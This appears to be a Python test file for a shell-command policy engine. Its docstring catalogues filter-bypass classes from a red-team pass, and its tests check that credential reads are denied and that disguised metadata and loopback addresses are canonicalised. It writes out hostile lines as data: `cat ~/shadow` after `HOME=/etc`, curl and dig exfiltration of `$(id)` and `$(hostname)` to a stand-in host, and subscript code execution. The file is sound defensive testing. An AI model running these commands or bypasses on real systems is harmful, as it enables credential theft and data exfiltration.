"""Engine classes a third red-team pass found (tests/rules/corpus/redteam3_bypasses.jsonl);
their cases in spellings of our own, with everyday neighbours, are ENGINE_BLOCKED and
ENGINE_EVERYDAY in test_redteam3_data.py, beside the catalog's.

- `~` and `cd` alone follow $HOME when a line sets it (`HOME=/etc; cat ~/shadow`);
- `read` splits on the IFS it is given; other splits are not worked out (unknown);
- `$(...)` loses its trailing newlines (`"$(dirname /etc/x)/shadow"` is one path);
  `ls FILE` prints the word itself, so `$(ls PATH)` is not "names in the cwd";
- subscripts bash evaluates (`unset 'a[$(cmd)]'`, `${a[x]}` and `$[x]` with x holding
  `a[$(cmd)]`) run code;
- a network command given the host's data from a substitution sends it (`curl
  "https://h/?d=$(id)"`, `dig $(hostname).h`);
- a program name a line wrote into a PATH directory runs that file;
- a host is matched as the resolver reads it (decimal, hex, IPv4-mapped, wildcard DNS);
- a command name holding a Unicode space is not understood;
- PATH with the current directory (an empty element) or no system directory first, a
  config file (KUBECONFIG) in a temporary directory or written on the line, a proxy
  variable, are not understood.
"""

from __future__ import annotations

import pytest

from rules import Action, Request, default_policy, evaluate
from rules.hosts import canonical_host

POLICY = [default_policy()]


def action(line: str) -> Action:
    return evaluate(POLICY, Request(line)).action


def test_credential_reads_through_home_are_denied_not_only_held() -> None:
    """Exact values are worked out: the read is a credential read, not merely unknown."""
    assert action("HOME=/etc; cat ~/shadow") is Action.DENY
    assert action('cat "$(dirname /etc/shadow)/shadow"') is Action.DENY


@pytest.mark.parametrize(
    ("written", "canonical"),
    [
        ("2852039166", "169.254.169.254"),
        ("0xa9fea9fe", "169.254.169.254"),
        ("0251.0376.0251.0376", "169.254.169.254"),
        ("169.254.43518", "169.254.169.254"),
        ("[::ffff:169.254.169.254]", "169.254.169.254"),
        ("::ffff:a9fe:a9fe", "169.254.169.254"),
        ("x.169.254.169.254.sslip.io", "169.254.169.254"),
        ("169-254-169-254.nip.io", "169.254.169.254"),
        ("METADATA.google.internal.", "metadata.google.internal"),
        ("0x7f.1", "127.0.0.1"),
        ("example.com", "example.com"),
        ("web1", "web1"),
        ("[fd00:ec2::254]", "fd00:ec2::254"),
        ("999.1.1.1", "999.1.1.1"),  # not an address: left as a name
    ],
)
def test_a_host_is_read_as_the_resolver_reads_it(written: str, canonical: str) -> None:
    assert canonical_host(written) == canonical
